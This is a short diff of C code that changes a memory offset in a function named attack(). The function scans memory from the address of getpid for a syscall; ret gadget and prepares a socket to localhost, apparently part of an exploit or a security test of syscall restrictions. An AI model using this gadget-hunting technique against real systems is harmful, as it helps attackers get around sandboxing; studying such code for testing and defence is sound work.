@@ -37,7 +37,7 @@ static void say(const char *what, long r)
 static void attack(void)
 {
 	struct sockaddr_in to = {AF_INET, htons(PORT), {htonl(0x7f000001)}, {0}};
-	unsigned char *p = (unsigned char *)(((uintptr_t)getpid & ~0x1ffffful) + 0x80000);
+	unsigned char *p = (unsigned char *)(((uintptr_t)getpid & ~0x1ffffful) + 0x2000);
 	long fd, made = 0;
 	while (!(p[0] == 0x0f && p[1] == 5 && p[2] == 0xc3))
 		p++;
